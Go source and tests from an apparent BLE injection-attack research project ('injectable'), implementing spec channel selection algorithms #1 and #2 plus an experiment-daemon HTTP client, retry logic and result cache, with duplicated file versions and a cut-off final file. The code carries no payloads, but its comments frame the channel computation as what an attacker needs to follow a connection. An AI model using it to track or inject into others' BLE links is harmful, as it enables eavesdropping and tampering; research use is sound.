	m := ble.AllChannels.Without(0, 1, 2, 3, 4, 5, 6, 7, 8, 9)
	a, err := NewAlgorithm1(7, m)
	if err != nil {
		t.Fatal(err)
	}
	for e := uint16(0); e < 200; e++ {
		ch := a.ChannelFor(e)
		if !m.Used(ch) {
			t.Fatalf("event %d selected unused channel %d", e, ch)
		}
	}
	// An unmapped-but-used channel passes through unremapped.
	for e := uint16(0); e < 200; e++ {
		un := a.UnmappedChannelFor(e)
		if m.Used(un) && a.ChannelFor(e) != un {
			t.Fatalf("used unmapped channel %d remapped", un)
		}
	}
}

func TestAlgorithm1RemapIndexFormula(t *testing.T) {
	// Spec: remappingIndex = unmapped mod numUsed, into the sorted table.
	m := ble.ChannelMap(0).Without() | 0b1010101 // channels 0,2,4,6
	a, err := NewAlgorithm1(5, m)
	if err != nil {
		t.Fatal(err)
	}
	used := m.UsedChannels()
	for e := uint16(0); e < 100; e++ {
		un := a.UnmappedChannelFor(e)
		if !m.Used(un) {
			want := used[int(un)%len(used)]
			if got := a.ChannelFor(e); got != want {
				t.Fatalf("event %d: remap(%d) = %d, want %d", e, un, got, want)
			}
		}
	}
}

func TestAlgorithm1RejectsBadParameters(t *testing.T) {
	if _, err := NewAlgorithm1(4, ble.AllChannels); err == nil {
		t.Error("hop 4 accepted")
	}
	if _, err := NewAlgorithm1(17, ble.AllChannels); err == nil {
		t.Error("hop 17 accepted")
	}
	if _, err := NewAlgorithm1(7, ble.ChannelMap(1)); err == nil {
		t.Error("single-channel map accepted")
	}
}

func TestAlgorithm1ChannelMapUpdate(t *testing.T) {
	a, err := NewAlgorithm1(7, ble.AllChannels)
	if err != nil {
		t.Fatal(err)
	}
	m2 := ble.AllChannels.Without(7, 14, 21)
	a.SetChannelMap(m2)
	if a.ChannelMap() != m2 {
		t.Fatal("channel map not applied")
	}
	for e := uint16(0); e < 200; e++ {
		if ch := a.ChannelFor(e); !m2.Used(ch) {
			t.Fatalf("selected blacklisted channel %d", ch)
		}
	}
}

func TestAlgorithm2Deterministic(t *testing.T) {
	aa := ble.AccessAddress(0x8E89BED5)
	a1, err := NewAlgorithm2(aa, ble.AllChannels)
	if err != nil {
		t.Fatal(err)
	}
	a2, _ := NewAlgorithm2(aa, ble.AllChannels)
	for e := uint16(0); e < 500; e++ {
		if a1.ChannelFor(e) != a2.ChannelFor(e) {
			t.Fatal("CSA#2 not deterministic")
		}
	}
}

func TestAlgorithm2SpecVectors(t *testing.T) {
	// Sample data from Core Specification v5.2 Vol 6 Part C §3.1:
	// AA = 0x8E89BED6 (channelIdentifier 0x305F), all 37 channels used.
	// prn_e: 56857, 1685, 38301, 27475 → channels 25, 20, 6, 21.
	a, err := NewAlgorithm2(ble.AccessAddress(0x8E89BED6), ble.AllChannels)
	if err != nil {
		t.Fatal(err)
	}
	want := map[uint16]uint8{0: 25, 1: 20, 2: 6, 3: 21}
	for e, ch := range want {
		if got := a.ChannelFor(e); got != ch {
			t.Errorf("CSA#2 event %d: channel %d, want %d", e, got, ch)
		}
	}
}

func TestAlgorithm2SpecVectorsNineChannels(t *testing.T) {
	// Second sample set from Vol 6 Part C §3.2: used channels
	// 9,10,21,22,23,33,34,35,36; AA = 0x8E89BED6. Remapping applies the
	// spec formula remappingIndex = ⌊N·prn_e/2¹⁶⌋ over the sorted table:
	// event 0: prn 56857, unmapped 25 unused → index 7 → channel 35;
	// event 1: prn 1685,  unmapped 20 unused → index 0 → channel 9;
	// event 2: prn 38301, unmapped 6  unused → index 5 → channel 33;
	// event 3: prn 27475, unmapped 21 used   → channel 21.
	var m ble.ChannelMap
	for _, ch := range []uint8{9, 10, 21, 22, 23, 33, 34, 35, 36} {
		m |= 1 << ch
	}
	a, err := NewAlgorithm2(ble.AccessAddress(0x8E89BED6), m)
	if err != nil {
		t.Fatal(err)
	}
	want := map[uint16]uint8{0: 35, 1: 9, 2: 33, 3: 21}
	for e, ch := range want {
		if got := a.ChannelFor(e); got != ch {
			t.Errorf("CSA#2 event %d: channel %d, want %d", e, got, ch)
		}
	}
}

func TestAlgorithm2RespectsChannelMap(t *testing.T) {
	m := ble.AllChannels.Without(0, 5, 10, 15, 20, 25, 30, 35)
	a, err := NewAlgorithm2(ble.AccessAddress(0x71764129), m)
	if err != nil {
		t.Fatal(err)
	}
	for e := uint16(0); e < 1000; e++ {
		if ch := a.ChannelFor(e); !m.Used(ch) {
			t.Fatalf("event %d: unused channel %d selected", e, ch)
		}
	}
}

func TestAlgorithm2Distribution(t *testing.T) {
	a, err := NewAlgorithm2(ble.AccessAddress(0x71764129), ble.AllChannels)
	if err != nil {
		t.Fatal(err)
	}
	counts := make(map[uint8]int)
	const events = 37 * 200
	for e := 0; e < events; e++ {
		counts[a.ChannelFor(uint16(e))]++
	}
	for ch := uint8(0); ch < 37; ch++ {
		c := counts[ch]
		if c < events/37/2 || c > events/37*2 {
			t.Errorf("channel %d selected %d times, expected ≈%d", ch, c, events/37)
		}
	}
}

// Property: both algorithms always return a channel from the map.
func TestSelectorsAlwaysInMapProperty(t *testing.T) {
	f := func(aaRaw uint32, hopRaw, e uint16, drop [5]uint8) bool {
		m := ble.AllChannels
		for _, d := range drop {
			m = m.Without(d % 37)
		}
		if !m.Valid() {
			return true
		}
		hop := uint8(hopRaw%12) + 5
		a1, err := NewAlgorithm1(hop, m)
		if err != nil {
			return false
		}
		a2, err := NewAlgorithm2(ble.AccessAddress(aaRaw), m)
		if err != nil {
			return false
		}
		return m.Used(a1.ChannelFor(e)) && m.Used(a2.ChannelFor(e))
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestPermuteIsInvolution(t *testing.T) {
	f := func(x uint16) bool { return permute(permute(x)) == x }
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestReverseByte(t *testing.T) {
	cases := map[byte]byte{0x01: 0x80, 0xF0: 0x0F, 0xAA: 0x55, 0x00: 0x00, 0xFF: 0xFF}
	for in, want := range cases {
		if got := reverseByte(in); got != want {
			t.Errorf("reverseByte(%#x) = %#x, want %#x", in, got, want)
		}
	}
}
