// Package csa implements the two BLE data-channel selection algorithms:
//
//   - Algorithm #1 (BLE 4.x): a modular hop — the algorithm the paper's
//     experiments use, and the one an attacker must reproduce to follow a
//     connection across channels.
//   - Algorithm #2 (BLE 5.0+): the PRNG-based selection keyed on the access
//     address, which Cauquil showed (paper ref. [10]) is equally
//     predictable by an attacker.
//
// Both are pure functions of observable connection parameters, which is the
// property InjectaBLE's synchronisation depends on.
package csa

import (
	"fmt"

	"injectable/internal/ble"
)

// Selector yields the data channel for successive connection events.
type Selector interface {
	// ChannelFor returns the RF data channel for the given connection
	// event counter.
	ChannelFor(eventCounter uint16) uint8
	// SetChannelMap applies a new channel map (takes effect immediately;
	// callers sequence it at the update instant).
	SetChannelMap(m ble.ChannelMap)
	// ChannelMap returns the map in use.
	ChannelMap() ble.ChannelMap
}

// Algorithm1 is Channel Selection Algorithm #1. Unlike #2, it is stateful:
// the unmapped channel advances by hopIncrement every event. ChannelFor is
// nevertheless expressed as a pure function of the event counter so that a
// sniffer can compute the channel for any future event after synchronising
// once.
type Algorithm1 struct {
	hopIncrement uint8 // 5 bits, 5..16 per spec
	channelMap   ble.ChannelMap
	used         []uint8
	// lastUnmapped0 is the unmapped channel *before* event 0, so that
	// unmapped(e) = (lastUnmapped0 + (e+1)·hop) mod 37.
	lastUnmapped0 uint8
}

// NewAlgorithm1 builds CSA#1 with the given hop increment and channel map.
// The first connection event (counter 0) uses channel hopIncrement mod 37
// remapped, matching a connection that starts from unmapped channel 0.
func NewAlgorithm1(hopIncrement uint8, m ble.ChannelMap) (*Algorithm1, error) {
	if hopIncrement < 5 || hopIncrement > 16 {
		return nil, fmt.Errorf("csa: hop increment %d outside 5..16", hopIncrement)
	}
	if !m.Valid() {
		return nil, fmt.Errorf("csa: invalid channel map %v", m)
	}
	a := &Algorithm1{hopIncrement: hopIncrement, lastUnmapped0: 0}
	a.SetChannelMap(m)
	return a, nil
}

var _ Selector = (*Algorithm1)(nil)

// HopIncrement returns the hop increment.
func (a *Algorithm1) HopIncrement() uint8 { return a.hopIncrement }

// SetChannelMap implements Selector.
func (a *Algorithm1) SetChannelMap(m ble.ChannelMap) {
	a.channelMap = m
	a.used = m.UsedChannels()
}

// ChannelMap implements Selector.
func (a *Algorithm1) ChannelMap() ble.ChannelMap { return a.channelMap }

// UnmappedChannelFor returns the pre-remapping channel for an event.
func (a *Algorithm1) UnmappedChannelFor(eventCounter uint16) uint8 {
	steps := (uint32(eventCounter) + 1) * uint32(a.hopIncrement)
	return uint8((uint32(a.lastUnmapped0) + steps) % 37)
}

// ChannelFor implements Selector.
func (a *Algorithm1) ChannelFor(eventCounter uint16) uint8 {
	un := a.UnmappedChannelFor(eventCounter)
	if a.channelMap.Used(un) {
		return un
	}
	// Remap: index = unmapped mod numUsed into the sorted used table.
	idx := int(un) % len(a.used)
	return a.used[idx]
}

// Algorithm2 is Channel Selection Algorithm #2 (BLE 5.0), keyed on the
// connection's access address.
type Algorithm2 struct {
	channelID  uint16
	channelMap ble.ChannelMap
	used       []uint8
}

// NewAlgorithm2 builds CSA#2 for a connection access address.
func NewAlgorithm2(aa ble.AccessAddress, m ble.ChannelMap) (*Algorithm2, error) {
	if !m.Valid() {
		return nil, fmt.Errorf("csa: invalid channel map %v", m)
	}
	a := &Algorithm2{channelID: uint16(uint32(aa)>>16) ^ uint16(uint32(aa)&0xFFFF)}
	a.SetChannelMap(m)
	return a, nil
}

var _ Selector = (*Algorithm2)(nil)

// SetChannelMap implements Selector.
func (a *Algorithm2) SetChannelMap(m ble.ChannelMap) {
	a.channelMap = m
	a.used = m.UsedChannels()
}

// ChannelMap implements Selector.
func (a *Algorithm2) ChannelMap() ble.ChannelMap { return a.channelMap }

// prn computes the pseudo-random number for an event counter, per spec
// Vol 6 Part B §4.5.8.3.3 (three rounds of permute + MAM).
func (a *Algorithm2) prn(eventCounter uint16) uint16 {
	x := eventCounter ^ a.channelID
	for i := 0; i < 3; i++ {
		x = permute(x)
		x = mam(x, a.channelID)
	}
	return x ^ a.channelID
}

// ChannelFor implements Selector.
func (a *Algorithm2) ChannelFor(eventCounter uint16) uint8 {
	prnE := a.prn(eventCounter)
	un := uint8(prnE % 37)
	if a.channelMap.Used(un) {
		return un
	}
	idx := int(uint32(len(a.used)) * uint32(prnE) >> 16)
	return a.used[idx]
}

// permute reverses the bit order within each byte of x.
func permute(x uint16) uint16 {
	return uint16(reverseByte(byte(x>>8)))<<8 | uint16(reverseByte(byte(x)))
}

func reverseByte(b byte) byte {
	b = b>>4 | b<<4
	b = (b&0xCC)>>2 | (b&0x33)<<2
	b = (b&0xAA)>>1 | (b&0x55)<<1
	return b
}

// mam is the Multiply-Add-Modulo step: (17·a + b) mod 2¹⁶.
func mam(a, b uint16) uint16 { return 17*a + b }
