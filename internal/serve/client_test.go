package serve

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"strconv"
	"sync/atomic"
	"testing"
	"time"
)

// jsonError writes the daemon's JSON error shape from stub servers.
func jsonError(w http.ResponseWriter, code int, msg string) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	w.Write([]byte(`{"error":` + strconv.Quote(msg) + `}`))
}

// throttleStub is an HTTP server that answers 429 + Retry-After for the
// first reject requests, then succeeds with a fixed NDJSON body.
func throttleStub(t *testing.T, reject int, retryAfter string) (*httptest.Server, *atomic.Int64) {
	t.Helper()
	var calls atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n := calls.Add(1)
		if int(n) <= reject {
			w.Header().Set("Retry-After", retryAfter)
			jsonError(w, http.StatusTooManyRequests, "serve: queue full")
			return
		}
		w.Header().Set("X-Job-ID", "j-0001")
		w.Header().Set("X-Cache", "miss")
		w.Write([]byte(`{"kind":"campaign"}` + "\n"))
	}))
	t.Cleanup(srv.Close)
	return srv, &calls
}

func TestClientRetriesThrottledRun(t *testing.T) {
	srv, calls := throttleStub(t, 2, "0")
	var waits []time.Duration
	c := &Client{Base: srv.URL, Retry: Retry{
		Max:   3,
		Base:  time.Millisecond,
		sleep: func(d time.Duration) { waits = append(waits, d) },
	}}
	res, err := c.Run(context.Background(), JobSpec{Experiment: "exp1"})
	if err != nil {
		t.Fatalf("Run with retries failed: %v", err)
	}
	if got := calls.Load(); got != 3 {
		t.Fatalf("server saw %d requests, want 3 (2 throttled + 1 success)", got)
	}
	if len(waits) != 2 {
		t.Fatalf("client slept %d times, want 2", len(waits))
	}
	if res.Cache != "miss" || res.JobID != "j-0001" {
		t.Fatalf("unexpected result meta: %+v", res)
	}
}

func TestClientExhaustsRetries(t *testing.T) {
	srv, calls := throttleStub(t, 100, "0")
	c := &Client{Base: srv.URL, Retry: Retry{Max: 2, Base: time.Millisecond, sleep: func(time.Duration) {}}}
	_, err := c.Run(context.Background(), JobSpec{Experiment: "exp1"})
	var apiErr *APIError
	if !errors.As(err, &apiErr) || apiErr.Status != http.StatusTooManyRequests {
		t.Fatalf("want final *APIError 429, got %v", err)
	}
	if got := calls.Load(); got != 3 {
		t.Fatalf("server saw %d requests, want 3 (initial + 2 retries)", got)
	}
}

func TestClientDoesNotRetryNonThrottle(t *testing.T) {
	var calls atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		jsonError(w, http.StatusBadRequest, "serve: bad spec")
	}))
	defer srv.Close()
	c := &Client{Base: srv.URL, Retry: Retry{Max: 5, Base: time.Millisecond, sleep: func(time.Duration) {
		t.Fatal("client slept for a non-retryable status")
	}}}
	_, err := c.Submit(context.Background(), JobSpec{Experiment: "exp1"})
	var apiErr *APIError
	if !errors.As(err, &apiErr) || apiErr.Status != http.StatusBadRequest {
		t.Fatalf("want *APIError 400, got %v", err)
	}
	if got := calls.Load(); got != 1 {
		t.Fatalf("server saw %d requests, want 1 (no retries on 400)", got)
	}
}

func TestClientRetryHonorsRetryAfterAndCap(t *testing.T) {
	// Retry-After of 3600s must be clamped to Cap; the jittered wait lands
	// in [cap/2, cap].
	r := Retry{Max: 1, Base: time.Millisecond, Cap: 50 * time.Millisecond}
	for i := 0; i < 100; i++ {
		w := r.backoff(0, "3600")
		if w < 25*time.Millisecond || w > 50*time.Millisecond {
			t.Fatalf("backoff %v outside [cap/2, cap]", w)
		}
	}
	// The hint floors the exponential step: attempt 0 at base 1ms with
	// Retry-After: 1 waits on the order of a second, not a millisecond.
	roomy := Retry{Max: 1, Base: time.Millisecond, Cap: 10 * time.Second}
	if w := roomy.backoff(0, "1"); w < 500*time.Millisecond {
		t.Fatalf("backoff %v ignored the Retry-After floor", w)
	}
	// Garbage hints fall back to the exponential step.
	if w := r.backoff(0, "soon"); w > time.Millisecond {
		t.Fatalf("backoff %v for a garbage hint exceeds the base step", w)
	}
}

func TestClientRetryWaitRespectsContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	srv, calls := throttleStub(t, 100, "0")
	c := &Client{Base: srv.URL, Retry: Retry{Max: 5, Base: time.Millisecond, sleep: func(time.Duration) {}}}
	_, err := c.Run(ctx, JobSpec{Experiment: "exp1"})
	if err == nil {
		t.Fatal("Run with a canceled context succeeded")
	}
	if got := calls.Load(); got > 1 {
		t.Fatalf("client kept retrying after cancellation: %d requests", got)
	}
}
