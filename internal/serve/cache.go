package serve

import (
	"bytes"
	"container/list"
	"sync"

	"injectable/internal/campaign"
)

// cached is one completed result stream: the immutable binary slab a
// campaign ran into, plus lazily memoized renderings (NDJSON transcode,
// columnar aggregate) built at most once per entry. An evicted entry
// stays valid for any reader still holding it — eviction only drops the
// cache's reference, never mutates the slab.
type cached struct {
	// jobID is the job that produced the stream. Terminal jobs are never
	// evicted from the server's job table, so a cache hit hands back the
	// original job and replays its sealed buffer zero-copy.
	jobID string
	// slab is the full binary trial stream, immutable once cached.
	slab []byte

	mu     sync.Mutex
	ndjson []byte     // memoized NDJSON rendering of slab
	agg    *Aggregate // memoized columnar aggregate of slab
}

// ndjsonSlab returns the NDJSON rendering of the binary slab,
// transcoding on first use and serving the memoized bytes after.
func (c *cached) ndjsonSlab() ([]byte, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.ndjson == nil {
		var buf bytes.Buffer
		buf.Grow(2 * len(c.slab))
		if err := campaign.TranscodeBinaryToNDJSON(&buf, c.slab); err != nil {
			return nil, err
		}
		c.ndjson = buf.Bytes()
	}
	return c.ndjson, nil
}

// aggregate returns the columnar aggregate of the slab, scanning on
// first use and serving the memoized result after.
func (c *cached) aggregate() (*Aggregate, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.agg == nil {
		agg, err := AggregateStream(c.slab)
		if err != nil {
			return nil, err
		}
		c.agg = agg
	}
	return c.agg, nil
}

// resultCache is an LRU over completed, deterministic result streams
// keyed by canonical spec hash. Determinism is what makes this cache
// semantically free: a hit replays bytes identical to what a fresh run
// would produce.
type resultCache struct {
	mu      sync.Mutex
	max     int
	order   *list.List // front = most recent; values are cache keys
	entries map[string]*cacheEntry
}

type cacheEntry struct {
	val  *cached
	elem *list.Element
}

// newResultCache returns a cache bounded to max entries (min 1).
func newResultCache(max int) *resultCache {
	if max < 1 {
		max = 1
	}
	return &resultCache{
		max:     max,
		order:   list.New(),
		entries: map[string]*cacheEntry{},
	}
}

// get returns the cached stream for key, marking it most recently used.
func (c *resultCache) get(key string) (*cached, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	e, ok := c.entries[key]
	if !ok {
		return nil, false
	}
	c.order.MoveToFront(e.elem)
	return e.val, true
}

// put stores a completed stream, evicting the least recently used entry
// when over capacity.
func (c *resultCache) put(key string, val *cached) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if e, ok := c.entries[key]; ok {
		e.val = val
		c.order.MoveToFront(e.elem)
		return
	}
	c.entries[key] = &cacheEntry{val: val, elem: c.order.PushFront(key)}
	for len(c.entries) > c.max {
		last := c.order.Back()
		c.order.Remove(last)
		delete(c.entries, last.Value.(string))
	}
}

// len returns the number of cached streams.
func (c *resultCache) len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.entries)
}
