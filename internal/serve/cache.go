package serve

import (
	"container/list"
	"sync"
)

// cached is one completed result stream.
type cached struct {
	// jobID is the job that produced the stream (returned to cache-hit
	// submitters so they can reference the original).
	jobID string
	// body is the full NDJSON stream, immutable once cached.
	body []byte
}

// resultCache is an LRU over completed, deterministic result streams
// keyed by canonical spec hash. Determinism is what makes this cache
// semantically free: a hit replays bytes identical to what a fresh run
// would produce.
type resultCache struct {
	mu      sync.Mutex
	max     int
	order   *list.List // front = most recent; values are cache keys
	entries map[string]*cacheEntry
}

type cacheEntry struct {
	val  cached
	elem *list.Element
}

// newResultCache returns a cache bounded to max entries (min 1).
func newResultCache(max int) *resultCache {
	if max < 1 {
		max = 1
	}
	return &resultCache{
		max:     max,
		order:   list.New(),
		entries: map[string]*cacheEntry{},
	}
}

// get returns the cached stream for key, marking it most recently used.
func (c *resultCache) get(key string) (cached, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	e, ok := c.entries[key]
	if !ok {
		return cached{}, false
	}
	c.order.MoveToFront(e.elem)
	return e.val, true
}

// put stores a completed stream, evicting the least recently used entry
// when over capacity.
func (c *resultCache) put(key string, val cached) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if e, ok := c.entries[key]; ok {
		e.val = val
		c.order.MoveToFront(e.elem)
		return
	}
	c.entries[key] = &cacheEntry{val: val, elem: c.order.PushFront(key)}
	for len(c.entries) > c.max {
		last := c.order.Back()
		c.order.Remove(last)
		delete(c.entries, last.Value.(string))
	}
}

// len returns the number of cached streams.
func (c *resultCache) len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.entries)
}
