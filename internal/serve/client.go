package serve

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
)

// Client is a minimal injectabled API client. Base is the daemon's root
// URL ("http://127.0.0.1:8077"); HTTP defaults to http.DefaultClient.
type Client struct {
	Base string
	HTTP *http.Client
}

func (c *Client) http() *http.Client {
	if c.HTTP != nil {
		return c.HTTP
	}
	return http.DefaultClient
}

func (c *Client) url(path string) string {
	return strings.TrimRight(c.Base, "/") + path
}

// RunResult is a completed synchronous run.
type RunResult struct {
	// JobID identifies the job that produced (or cached) the stream.
	JobID string
	// Cache is the daemon's disposition: "miss", "join" or "hit".
	Cache string
	// Body is the full NDJSON result stream.
	Body []byte
}

// Run submits a job synchronously (POST /v1/run) and reads the whole
// result stream.
func (c *Client) Run(ctx context.Context, spec JobSpec) (*RunResult, error) {
	payload, err := json.Marshal(spec)
	if err != nil {
		return nil, err
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, c.url("/v1/run"), bytes.NewReader(payload))
	if err != nil {
		return nil, err
	}
	req.Header.Set("Content-Type", "application/json")
	resp, err := c.http().Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, decodeErr(resp)
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return nil, err
	}
	return &RunResult{
		JobID: resp.Header.Get("X-Job-ID"),
		Cache: resp.Header.Get("X-Cache"),
		Body:  body,
	}, nil
}

// Submit enqueues a job asynchronously (POST /v1/jobs).
func (c *Client) Submit(ctx context.Context, spec JobSpec) (*JobInfo, error) {
	payload, err := json.Marshal(spec)
	if err != nil {
		return nil, err
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, c.url("/v1/jobs"), bytes.NewReader(payload))
	if err != nil {
		return nil, err
	}
	req.Header.Set("Content-Type", "application/json")
	resp, err := c.http().Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusAccepted {
		return nil, decodeErr(resp)
	}
	var info JobInfo
	if err := json.NewDecoder(resp.Body).Decode(&info); err != nil {
		return nil, err
	}
	return &info, nil
}

// Status fetches a job's current state.
func (c *Client) Status(ctx context.Context, id string) (*JobInfo, error) {
	return c.jobCall(ctx, http.MethodGet, "/v1/jobs/"+id)
}

// Cancel requests cancellation of a queued or running job.
func (c *Client) Cancel(ctx context.Context, id string) (*JobInfo, error) {
	return c.jobCall(ctx, http.MethodPost, "/v1/jobs/"+id+"/cancel")
}

func (c *Client) jobCall(ctx context.Context, method, path string) (*JobInfo, error) {
	req, err := http.NewRequestWithContext(ctx, method, c.url(path), nil)
	if err != nil {
		return nil, err
	}
	resp, err := c.http().Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, decodeErr(resp)
	}
	var info JobInfo
	if err := json.NewDecoder(resp.Body).Decode(&info); err != nil {
		return nil, err
	}
	return &info, nil
}

// Results streams a job's NDJSON results to w, blocking until the job
// finishes (or ctx is canceled).
func (c *Client) Results(ctx context.Context, id string, w io.Writer) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, c.url("/v1/jobs/"+id+"/results"), nil)
	if err != nil {
		return err
	}
	resp, err := c.http().Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return decodeErr(resp)
	}
	_, err = io.Copy(w, resp.Body)
	return err
}

// APIError is a non-2xx daemon response.
type APIError struct {
	Status     int
	Msg        string
	RetryAfter string
}

func (e *APIError) Error() string {
	if e.RetryAfter != "" {
		return fmt.Sprintf("serve: HTTP %d: %s (retry after %ss)", e.Status, e.Msg, e.RetryAfter)
	}
	return fmt.Sprintf("serve: HTTP %d: %s", e.Status, e.Msg)
}

func decodeErr(resp *http.Response) error {
	var body struct {
		Error string `json:"error"`
	}
	msg := resp.Status
	if json.NewDecoder(io.LimitReader(resp.Body, 4096)).Decode(&body) == nil && body.Error != "" {
		msg = body.Error
	}
	return &APIError{
		Status:     resp.StatusCode,
		Msg:        msg,
		RetryAfter: resp.Header.Get("Retry-After"),
	}
}
