package serve

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"math/rand"
	"net/http"
	"strconv"
	"strings"
	"time"

	"injectable/internal/obs"
)

// TraceHeader carries a caller's trace id on job submissions. A fabric
// coordinator sets it to its campaign-level spec hash so the worker's
// queue/run spans land in the same cross-process trace.
const TraceHeader = "X-Trace-Id"

// Client is a minimal injectabled API client. Base is the daemon's root
// URL ("http://127.0.0.1:8077"); HTTP defaults to http.DefaultClient.
type Client struct {
	Base string
	HTTP *http.Client
	// Trace, when non-empty, is sent as the X-Trace-Id header on every
	// job submission so server-side spans join the caller's trace.
	Trace string
	// Retry governs automatic resubmission when the daemon throttles
	// (429 queue-full, 503 draining). The zero value disables retries —
	// the historical behavior, and the right one for callers that do
	// their own failover (the fabric dispatcher reroutes to another
	// worker instead of hammering a busy one).
	Retry Retry
}

// Retry is the client's throttle-retry policy: capped exponential backoff
// with full jitter, honoring the server's Retry-After hint as the floor of
// each wait. Only 429 and 503 responses are retried — they are explicit
// "try again later" signals carrying Retry-After; transport errors and
// every other status surface immediately.
type Retry struct {
	// Max is the number of retries after the initial attempt (0 = none).
	Max int
	// Base is the first backoff step (default 200ms); it doubles per retry.
	Base time.Duration
	// Cap bounds any single wait (default 5s).
	Cap time.Duration

	// sleep is stubbed by tests; nil means a real timer.
	sleep func(time.Duration)
}

// backoff computes the wait before retry attempt (0-based), honoring the
// server's Retry-After seconds as a floor and applying full jitter in
// [w/2, w) so a rejected fleet does not resubmit in lockstep.
func (r Retry) backoff(attempt int, retryAfter string) time.Duration {
	base := r.Base
	if base <= 0 {
		base = 200 * time.Millisecond
	}
	cap := r.Cap
	if cap <= 0 {
		cap = 5 * time.Second
	}
	w := base << uint(attempt)
	if w > cap || w <= 0 {
		w = cap
	}
	if secs, err := strconv.Atoi(strings.TrimSpace(retryAfter)); err == nil && secs >= 0 {
		if hint := time.Duration(secs) * time.Second; hint > w {
			w = hint
		}
		if w > cap {
			w = cap
		}
	}
	if w <= 0 {
		return 0
	}
	half := w / 2
	return half + time.Duration(rand.Int63n(int64(half)+1))
}

// wait sleeps for d or until ctx is done.
func (r Retry) wait(ctx context.Context, d time.Duration) error {
	if d <= 0 {
		if err := ctx.Err(); err != nil {
			return err
		}
		return nil
	}
	if r.sleep != nil {
		r.sleep(d)
		return ctx.Err()
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// retryable reports whether a status is an explicit throttle signal.
func retryable(status int) bool {
	return status == http.StatusTooManyRequests || status == http.StatusServiceUnavailable
}

// postSpec POSTs a job spec to path, resubmitting throttled responses per
// the client's Retry policy. The caller owns the returned response body.
func (c *Client) postSpec(ctx context.Context, path string, spec JobSpec) (*http.Response, error) {
	payload, err := json.Marshal(spec)
	if err != nil {
		return nil, err
	}
	for attempt := 0; ; attempt++ {
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, c.url(path), bytes.NewReader(payload))
		if err != nil {
			return nil, err
		}
		req.Header.Set("Content-Type", "application/json")
		if c.Trace != "" {
			req.Header.Set(TraceHeader, c.Trace)
		}
		resp, err := c.http().Do(req)
		if err != nil {
			return nil, err
		}
		if !retryable(resp.StatusCode) || attempt >= c.Retry.Max {
			return resp, nil
		}
		apiErr := decodeErr(resp) // also drains what we need from the body
		resp.Body.Close()
		retryAfter := ""
		if e, ok := apiErr.(*APIError); ok {
			retryAfter = e.RetryAfter
		}
		if werr := c.Retry.wait(ctx, c.Retry.backoff(attempt, retryAfter)); werr != nil {
			return nil, fmt.Errorf("serve: retry wait: %w (last: %v)", werr, apiErr)
		}
	}
}

func (c *Client) http() *http.Client {
	if c.HTTP != nil {
		return c.HTTP
	}
	return http.DefaultClient
}

func (c *Client) url(path string) string {
	return strings.TrimRight(c.Base, "/") + path
}

// RunResult is a completed synchronous run.
type RunResult struct {
	// JobID identifies the job that produced (or cached) the stream.
	JobID string
	// Cache is the daemon's disposition: "miss", "join" or "hit".
	Cache string
	// Body is the full result stream (NDJSON from Run, binary frames
	// from RunBinary).
	Body []byte
}

// Run submits a job synchronously (POST /v1/run) and reads the whole
// NDJSON result stream, retrying throttled submissions per the Retry
// policy.
func (c *Client) Run(ctx context.Context, spec JobSpec) (*RunResult, error) {
	return c.run(ctx, "/v1/run", spec)
}

// RunBinary is Run in the binary trial-record format: the daemon
// answers with its cached slab verbatim (zero-copy on hits), and the
// caller gets frames it can validate, merge or transcode without JSON
// parsing. The fabric dispatcher moves every shard stream this way.
func (c *Client) RunBinary(ctx context.Context, spec JobSpec) (*RunResult, error) {
	return c.run(ctx, "/v1/run?format="+FormatBinary, spec)
}

func (c *Client) run(ctx context.Context, path string, spec JobSpec) (*RunResult, error) {
	resp, err := c.postSpec(ctx, path, spec)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, decodeErr(resp)
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return nil, err
	}
	return &RunResult{
		JobID: resp.Header.Get("X-Job-ID"),
		Cache: resp.Header.Get("X-Cache"),
		Body:  body,
	}, nil
}

// Aggregate submits a job synchronously (POST /v1/aggregate) and
// returns its columnar summary — per-point success rates and attempts
// histograms — instead of the trial stream.
func (c *Client) Aggregate(ctx context.Context, spec JobSpec) (*Aggregate, error) {
	resp, err := c.postSpec(ctx, "/v1/aggregate", spec)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, decodeErr(resp)
	}
	var agg Aggregate
	if err := json.NewDecoder(resp.Body).Decode(&agg); err != nil {
		return nil, err
	}
